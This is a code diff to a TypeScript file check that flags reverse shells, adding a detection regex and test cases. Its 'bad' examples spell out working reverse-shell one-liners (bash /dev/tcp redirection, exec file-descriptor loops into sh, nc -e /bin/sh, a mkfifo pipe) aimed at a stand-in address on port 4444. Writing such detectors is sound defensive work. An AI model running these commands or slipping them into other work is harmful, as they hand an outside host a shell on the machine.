@@ -9,6 +9,9 @@ const FORMS: readonly RegExp[] = [
   /\bsocat\b[^\n]{0,120}\bexec:["']?[^\s,'"]{0,30}sh\b/gi,
   /\bos\.dup2\(\s{0,3}\w{1,40}\.fileno\(\)\s{0,3},\s{0,3}[012]\s{0,3}\)/g,
 ];
+/** A socket opened by number is a shell's where a shell reads from it, or what is read from it is run. */
+const READ_BY_SHELL =
+  /\b(?:ba|z|k|da)?sh\b[^\n;|]{0,40}[<>]&\s?\d|\bread\s[^\n]{0,60}[\n;]\s{0,20}do\s{1,20}(?:eval\s{1,3})?["']?\$|<&\s?\d{1,3}\s{0,3}\|[^\n]{0,60}\b(?:ba|z|k|da)?sh\b/;
 const SOCKET = /socket|\.connect\(|\.accept\(|pty\.spawn|\/bin\/(?:ba|z)?sh/;
 const TEACHING: ReadonlySet<string> = new Set(['markdown', 'restructuredtext', 'json', 'text']);
 const PLACEHOLDER =
@@ -37,6 +40,8 @@ export const check: FileCheck = {
   examples: {
     bad: [
       { 'setup.sh': '«bash -i >& /dev/tcp/203.0.113.7/4444» 0>&1' },
+      { 'run.sh': '«exec 5<>/dev/tcp/203.0.113.7/4444»; cat <&5 | while read line; do $line 2>&5 >&5; done' },
+      { 'go.sh': '0<&196; «exec 196<>/dev/tcp/203.0.113.7/4444»; sh <&196 >&196 2>&196' },
       { 'install.py': 'os.system("«nc 203.0.113.7 4444 -e /bin/sh»")' },
       { 'run.sh': 'rm -f /tmp/f; «mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc» 203.0.113.7 4444 > /tmp/f' },
       {
@@ -55,6 +60,7 @@ export const check: FileCheck = {
     good: [
       { 'wait.sh': 'until nc -z localhost 5432; do sleep 1; done' },
       { 'probe.sh': '(echo > /dev/tcp/localhost/80) && echo open' },
+      { 'wait.sh': 'timeout 1 bash -c "exec 3<>/dev/tcp/127.0.0.1/$port" && echo open' },
       { 'detach.py': 'os.dup2(log.fileno(), 1)\nos.dup2(log.fileno(), 2)\n' },
       { 'daemon.py': 'os.dup2(devnull.fileno(), sys.stdout.fileno())' },
     ],
@@ -67,6 +73,7 @@ export const check: FileCheck = {
         for (const match of window.text.matchAll(form)) {
           // A daemon hands its streams to files in the same way.
           if (match[0].startsWith('os.dup2') && !SOCKET.test(window.text)) continue;
+          if (match[0].startsWith('exec') && !READ_BY_SHELL.test(window.text)) continue;
           yield {
             at: window.spanOf(match),
             message: 'A shell is connected to a network socket.',
